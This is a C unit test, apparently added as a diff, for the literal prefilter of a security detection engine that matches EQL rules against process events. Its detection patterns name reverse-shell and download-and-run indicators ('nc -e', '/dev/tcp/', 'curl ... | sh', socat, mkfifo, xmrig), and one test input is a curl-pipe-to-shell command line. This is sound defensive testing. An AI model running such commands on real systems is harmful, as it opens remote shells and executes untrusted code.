@@ -1,0 +1,421 @@
+// SPDX-License-Identifier: GPL-2.0
+/*
+ * The literal prefilter (module/engine/prefilter.c) must never change a
+ * result, only skip work:
+ *
+ *  - which steps get a filter, and what an event lets through, on small
+ *    rules whose filters are known;
+ *  - differential: the same events through two engines over the same
+ *    rules, one with the prefilter switched off, give the same alerts in
+ *    the same order.  The rules are ours (rules/) and, when present, the
+ *    Elastic corpus; the events are built from every pattern of every
+ *    MATCH of every step (the literal alone, inside other text, in upper
+ *    case) in the field that MATCH reads, so each step sees values that
+ *    make it true.
+ */
+#include <ctype.h>
+#include <sys/stat.h>
+
+#include "tap.h"
+#include "compiler_util.h"
+#include "internal.h"
+
+#define CORPUS "../../../shared/corpus/elastic/"
+
+/* Switches the prefilter of @e off: every step is let through. */
+static void pf_off(struct vigil_engine *e)
+{
+	memset(e->pf.kslots, 0, sizeof(e->pf.kslots));
+}
+
+static bool step_filtered(const struct vigil_engine *e, u32 rule)
+{
+	return e->pf.step_slot[e->rs.rules[rule].first_step] != VIGIL_PF_NONE;
+}
+
+static void cmd(struct cu_ev *c, const char *cmdline)
+{
+	cu_set(c, VIGIL_F_PROCESS_COMMAND_LINE, cmdline);
+}
+
+/* Enough CONTAINS patterns that scanning the command line pays. */
+#define MANY_CMD                                                            \
+	"process.command_line : (\"*base64 -d*\", \"*nc -e*\", \"*xmrig*\", " \
+	"\"*/dev/tcp/*\", \"*chmod 4755*\", \"*LD_PRELOAD=*\", "             \
+	"\"*curl*|*sh*\", \"*wget -q*\", \"*mkfifo*\", \"*socat*\")"
+
+static void filter_contains(void)
+{
+	struct vigil_engine *e =
+		cu_engine("eql", "process where " MANY_CMD);
+	struct cu_ev *c = calloc(1, sizeof(*c));
+
+	CHECK(e && c);
+	if (!e || !c)
+		goto out;
+	CHECK(step_filtered(e, 0));
+	CHECK(e->pf.kslots[VIGIL_EV_EXEC] == 1);
+	cu_exec(c, 1, "e1", "sh", ARGV("sh", "-c", "x"));
+	cmd(c, "echo aGkK | BASE64 -D");
+	CHECK_EQ(cu_run(e, c), 1);
+	cmd(c, "echo aGkK | base64");
+	CHECK_EQ(cu_run(e, c), 0);
+	cmd(c, "curl http://x/y | sh");
+	CHECK_EQ(cu_run(e, c), 1);
+	cmd(c, "sh");
+	CHECK_EQ(cu_run(e, c), 0);
+out:
+	free(c);
+	vigil_engine_free(e);
+}
+
+/* or: either side's literals; not: nothing known, so no filter. */
+static void filter_shapes(void)
+{
+	struct vigil_engine *e = cu_engine(
+		"eql", "process where " MANY_CMD " or process.working_directory "
+		       ": \"/srv/payload*\"");
+	struct vigil_engine *n = cu_engine(
+		"eql", "process where not " MANY_CMD);
+	struct vigil_engine *r = cu_engine(
+		"eql", "process where " MANY_CMD " or process.command_line "
+		       "regex \".*[0-9]{4}.*\"");
+	struct cu_ev *c = calloc(1, sizeof(*c));
+
+	CHECK(e && n && r && c);
+	if (!e || !n || !r || !c)
+		goto out;
+	CHECK(step_filtered(e, 0));
+	CHECK(!step_filtered(n, 0));
+	CHECK(!step_filtered(r, 0));
+	cu_exec(c, 1, "e1", "sh", ARGV("sh"));
+	cmd(c, "sh");
+	cu_set(c, VIGIL_F_PROCESS_WORKING_DIRECTORY, "/srv/payload/x");
+	CHECK_EQ(cu_run(e, c), 1);
+	CHECK_EQ(cu_run(n, c), 1);
+	cu_set(c, VIGIL_F_PROCESS_WORKING_DIRECTORY, "/srv");
+	CHECK_EQ(cu_run(e, c), 0);
+	cmd(c, "sleep 1234");
+	CHECK_EQ(cu_run(r, c), 1);
+out:
+	free(c);
+	vigil_engine_free(e);
+	vigil_engine_free(n);
+	vigil_engine_free(r);
+}
+
+/* Prefixes of args: the literal must start an element, in either case. */
+static void filter_anchors(void)
+{
+	struct vigil_engine *e = cu_engine(
+		"eql", "process where process.args : (\"--exploit*\", "
+		       "\"--payload*\", \"--shell*\", \"--reverse*\", \"--root*\", "
+		       "\"--suid*\", \"--escape*\", \"--dump*\", \"--keylog*\", "
+		       "\"--hide*\", \"--wipe*\", \"--persist*\")");
+	struct cu_ev *c = calloc(1, sizeof(*c));
+
+	CHECK(e && c);
+	if (!e || !c)
+		goto out;
+	CHECK(step_filtered(e, 0));
+	cu_exec(c, 1, "e1", "x", ARGV("x", "a", "--DUMP"));
+	CHECK_EQ(cu_run(e, c), 1);
+	cu_exec(c, 1, "e1", "x", ARGV("x", "--dump", "a"));
+	CHECK_EQ(cu_run(e, c), 1);
+	cu_exec(c, 1, "e1", "x", ARGV("x", "--dumpster"));
+	CHECK_EQ(cu_run(e, c), 1);
+	cu_exec(c, 1, "e1", "x", ARGV("x", "no--dump"));
+	CHECK_EQ(cu_run(e, c), 0);
+out:
+	free(c);
+	vigil_engine_free(e);
+}
+
+/* ---- differential ---- */
+
+struct rec {
+	u32 rules[64];
+	u32 n;
+};
+
+static void rec_cb(void *ctx, const struct vigil_match *m)
+{
+	struct rec *r = ctx;
+
+	if (r->n < 64)
+		r->rules[r->n] = m->rule;
+	r->n++;
+}
+
+struct diff {
+	struct vigil_engine *on, *off;
+	u64 events, alerts, mismatches, ts;
+	char buf[4096];
+};
+
+static void run_both(struct diff *d, struct cu_ev *c)
+{
+	struct rec a = { .n = 0 }, b = { .n = 0 };
+
+	vigil_event_set_num(&c->ev, VIGIL_F_TIMESTAMP, d->ts += 1000000);
+	vigil_engine_process(d->on, &c->ev, rec_cb, &a);
+	vigil_engine_process(d->off, &c->ev, rec_cb, &b);
+	d->events++;
+	d->alerts += b.n;
+	if (a.n == b.n &&
+	    !memcmp(a.rules, b.rules, sizeof(u32) * (a.n < 64 ? a.n : 64)))
+		return;
+	if (d->mismatches++ < 5)
+		printf("#   event %llu: %u alerts with the prefilter, %u without\n",
+		       (unsigned long long)d->events, a.n, b.n);
+}
+
+/* A plain event of @kind with every field a rule may read. */
+static void base_event(struct cu_ev *c, u32 kind)
+{
+	if (kind == VIGIL_EV_EXEC) {
+		cu_exec(c, 0, "e1", "x", ARGV("x", "-a", "b"));
+	} else {
+		cu_file(c, 0, "e1", kind, "/var/tmp/x.txt");
+		cu_set(c, VIGIL_F_PROCESS_NAME, "x");
+	}
+	cu_set(c, VIGIL_F_PROCESS_EXECUTABLE, "/usr/bin/x");
+	cmd(c, "x -a b");
+	cu_set(c, VIGIL_F_PROCESS_WORKING_DIRECTORY, "/root");
+	cu_set(c, VIGIL_F_PARENT_NAME, "bash");
+	cu_set(c, VIGIL_F_PARENT_EXECUTABLE, "/usr/bin/bash");
+	cu_set(c, VIGIL_F_PARENT_COMMAND_LINE, "bash");
+	cu_set(c, VIGIL_F_PARENT_ENTITY_ID, "e0");
+	cu_args(&c->ev, VIGIL_F_PARENT_ARGS, c->pargs, ARGV("bash"));
+	vigil_event_set_num(&c->ev, VIGIL_F_USER_ID, 0);
+}
+
+/* Values must outlive the event: a ring of copies. */
+static const char *strdup_tmp(const char *s)
+{
+	static char ring[64][1024];
+	static u32 next;
+	char *p = ring[next++ % 64];
+
+	snprintf(p, 1024, "%s", s);
+	return p;
+}
+
+/* Sets @f to @v (an ARRAY: a second element); file paths derive names. */
+static void put(struct cu_ev *c, u32 f, const char *v)
+{
+	if (vigil_is_array(f)) {
+		cu_args(&c->ev, f, f == VIGIL_F_PROCESS_ARGS ? c->args : c->pargs,
+			ARGV("x", v));
+		return;
+	}
+	if (vigil_field_type(f) != VIGIL_FT_STR)
+		return;
+	vigil_event_set_str(&c->ev, f, v, strlen(v));
+	if (f == VIGIL_F_FILE_PATH || f == VIGIL_F_FILE_ORIG_PATH)
+		vigil_event_derive_file(&c->ev);
+}
+
+/* A value the pattern matches: its literal, '*' and '?' made concrete. */
+static void sample(const struct vigil_rs *rs, const struct vigil_rs_pat *p,
+		   char *out, size_t cap)
+{
+	const char *s = rs->strtab + p->str;
+	size_t i, o = 0;
+
+	for (i = 0; i < p->len && o + 2 < cap; i++) {
+		if (p->kind == VIGIL_PAT_GLOB && s[i] == '*') {
+			out[o++] = 'z';
+			continue;
+		}
+		if (p->kind == VIGIL_PAT_GLOB && s[i] == '?') {
+			out[o++] = 'q';
+			continue;
+		}
+		if (p->kind == VIGIL_PAT_GLOB && s[i] == '\\' && i + 1 < p->len)
+			i++;
+		out[o++] = s[i];
+	}
+	out[o] = 0;
+}
+
+/*
+ * Events that satisfy whole conjunctions: every field a step matches
+ * set at once, to the @j-th pattern (modulo the set) of its MATCH.
+ */
+static void feed_steps(struct diff *d, struct cu_ev *c)
+{
+	const struct vigil_rs *rs = &d->off->rs;
+	char lit[1024];
+	u32 st, i, j, kind;
+
+	for (st = 0; st < rs->h->n_steps; st++) {
+		const struct vigil_rs_step *step = &rs->steps[st];
+		const struct vigil_rs_insn *prog = &rs->insns[step->first_insn];
+
+		for (kind = 1; kind < __VIGIL_EV_LAST; kind++) {
+			if (!(step->kind_mask & (1U << kind)))
+				continue;
+			for (j = 0; j < 8; j++) {
+				base_event(c, kind);
+				for (i = 0; i < step->n_insns; i++) {
+					const struct vigil_rs_set *set;
+
+					if (prog[i].op != VIGIL_OP_MATCH)
+						continue;
+					set = &rs->sets[prog[i].arg];
+					sample(rs,
+					       &rs->pats[set->first_pat +
+							 j % set->n_pats],
+					       lit, sizeof(lit));
+					/* the array's own storage: copy */
+					put(c, prog[i].field, strdup_tmp(lit));
+				}
+				run_both(d, c);
+			}
+		}
+	}
+}
+
+/* Events from every pattern of every MATCH of every step. */
+static void feed_patterns(struct diff *d, struct cu_ev *c)
+{
+	const struct vigil_rs *rs = &d->off->rs;
+	char lit[1024], v[1200];
+	u32 st, i, j, k, kind;
+
+	for (st = 0; st < rs->h->n_steps; st++) {
+		const struct vigil_rs_step *step = &rs->steps[st];
+		const struct vigil_rs_insn *prog = &rs->insns[step->first_insn];
+
+		for (kind = 1; kind < __VIGIL_EV_LAST; kind++) {
+			if (!(step->kind_mask & (1U << kind)))
+				continue;
+			for (i = 0; i < step->n_insns; i++) {
+				const struct vigil_rs_set *set;
+
+				if (prog[i].op != VIGIL_OP_MATCH)
+					continue;
+				set = &rs->sets[prog[i].arg];
+				for (j = 0; j < set->n_pats && j < 64; j++) {
+					sample(rs, &rs->pats[set->first_pat + j],
+					       lit, sizeof(lit));
+					for (k = 0; k < 3; k++) {
+						base_event(c, kind);
+						if (k == 0)
+							snprintf(v, sizeof(v), "%s", lit);
+						else if (k == 1)
+							snprintf(v, sizeof(v), "A %s B", lit);
+						else {
+							size_t q;
+
+							snprintf(v, sizeof(v), "%s", lit);
+							for (q = 0; v[q]; q++)
+								v[q] = toupper((u8)v[q]);
+						}
+						put(c, prog[i].field, v);
+						run_both(d, c);
+					}
+				}
+			}
+		}
+	}
+}
+
+static void differential(const char *what, void *blob, __u32 len)
+{
+	struct vigil_engine_limits lim = { 1024, 1024 };
+	struct diff *d = calloc(1, sizeof(*d));
+	struct cu_ev *c = calloc(1, sizeof(*c));
+	const char *reason;
+
+	CHECK(d && c && blob);
+	if (!d || !c || !blob)
+		goto out;
+	d->on = vigil_engine_new(blob, len, &lim, &reason);
+	d->off = vigil_engine_new(blob, len, &lim, &reason);
+	if (!d->on || !d->off)
+		printf("#   engine refused: %s\n", reason);
+	CHECK(d->on && d->off);
+	if (!d->on || !d->off)
+		goto out;
+	pf_off(d->off);
+	feed_patterns(d, c);
+	feed_steps(d, c);
+	printf("# %s: %u filtered steps, %llu events, %llu alerts, %llu differ\n",
+	       what, d->on->pf.n_slots, (unsigned long long)d->events,
+	       (unsigned long long)d->alerts,
+	       (unsigned long long)d->mismatches);
+	CHECK(d->on->pf.n_slots > 0);
+	CHECK(d->alerts > 0);
+	CHECK_EQ(d->mismatches, 0);
+out:
+	if (d) {
+		vigil_engine_free(d->on);
+		vigil_engine_free(d->off);
+	}
+	free(d);
+	free(c);
+	free(blob);
+}
+
+static void *compile_dirs(const char *const *dirs, u32 n_dirs, __u32 *len)
+{
+	struct vigil_compiler *c = vigil_compiler_new();
+	struct vigil_cerror e;
+	char **paths = NULL;
+	size_t n = 0, i;
+	void *blob = NULL;
+
+	if (!c)
+		return NULL;
+	for (i = 0; i < n_dirs; i++)
+		if (vigil_compiler_collect(dirs[i], &paths, &n))
+			goto out;
+	vigil_compiler_paths_sort(paths, n);
+	for (i = 0; i < n; i++)
+		vigil_compiler_add_file(c, paths[i], &e); /* rejects: skipped */
+	/* and rules whose filters are sure to be kept */
+	cu_rule("eql", "process where " MANY_CMD);
+	vigil_compiler_add_buf(c, cu_toml, strlen(cu_toml), &e);
+	if (vigil_compiler_emit(c, &blob, len, &e))
+		blob = NULL;
+out:
+	vigil_compiler_paths_free(paths, n);
+	vigil_compiler_free(c);
+	return blob;
+}
+
+static void differential_ours(void)
+{
+	const char *dirs[] = { "../../rules" };
+	__u32 len = 0;
+	void *blob = compile_dirs(dirs, 1, &len);
+
+	differential("rules/", blob, len);
+}
+
+static void differential_corpus(void)
+{
+	const char *dirs[] = { CORPUS "rules/linux",
+			       CORPUS "rules_building_block" };
+	__u32 len = 0;
+	void *blob = compile_dirs(dirs, 2, &len);
+
+	differential("corpus", blob, len);
+}
+
+int main(void)
+{
+	struct stat st;
+
+	RUN(filter_contains);
+	RUN(filter_shapes);
+	RUN(filter_anchors);
+	RUN(differential_ours);
+	if (stat(CORPUS "rules/linux", &st))
+		SKIP(differential_corpus, "corpus not found at " CORPUS);
+	else
+		RUN(differential_corpus);
+	return tap_done();
+}
